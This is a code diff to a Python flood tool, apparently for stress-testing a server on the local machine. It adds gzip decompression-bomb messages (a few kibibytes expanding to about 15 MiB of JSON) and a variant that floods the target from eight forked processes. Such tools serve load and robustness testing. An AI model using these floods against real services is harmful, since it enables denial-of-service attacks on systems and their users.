@@ -7,10 +7,12 @@ Prints a line once the flood is on, and goes on until it is killed. ADDRESS: a s
 this machine. Each flood is a function of a Target.
 """
 
+import ctypes
 import gzip
 import itertools
 import os
 import resource
+import signal
 import socket
 import ssl
 import struct
@@ -219,6 +221,38 @@ def texts(target):
     messages.append(pack(["t", [[0, {"v": "\x01" * 10000}] for _unused in range(400)]]))
     messages.append(pack(["t", [[0, {"\x01" * (2 * MIB): ""}]]]))
     push(target, [target.connect() for _unused in range(20)], itertools.cycle(messages))
+
+
+AMPLIFIED = gzip.compress(pack([0, {"k": "\x01" * 119000}]) * 22)  # 3 KiB, and 15 MiB of JSON
+TOO_LARGE = gzip.compress(pack([0, {"k": "\x01" * 119000}]) * 34)
+
+
+def amplified(target):
+    """A few kibibytes of gzip that become as much JSON as one message may have, or more."""
+    messages = [pack(["t", packed, {"compressed": "gzip"}]) for packed in (AMPLIFIED, TOO_LARGE)]
+    push(target, [target.connect()], itertools.cycle(messages))
+
+
+def amplified_processes(target):
+    """The same by many processes of one user."""
+    messages = [pack(["t", packed, {"compressed": "gzip"}]) for packed in (AMPLIFIED, TOO_LARGE)]
+    parent = os.getpid()
+    for _unused in range(PROCESSES):
+        if not os.fork():
+            _end_with(parent)
+            _said.append(True)
+            push(target, [target.connect()], itertools.cycle(messages))
+    push(target, [target.connect()], itertools.cycle(messages))
+
+
+PROCESSES = 8
+
+
+def _end_with(parent):
+    """Have the kernel end this process when its parent ends (prctl(2), PR_SET_PDEATHSIG)."""
+    ctypes.CDLL(None).prctl(1, signal.SIGKILL)
+    if os.getppid() != parent:
+        os._exit(0)
 
 
 def keys(target):
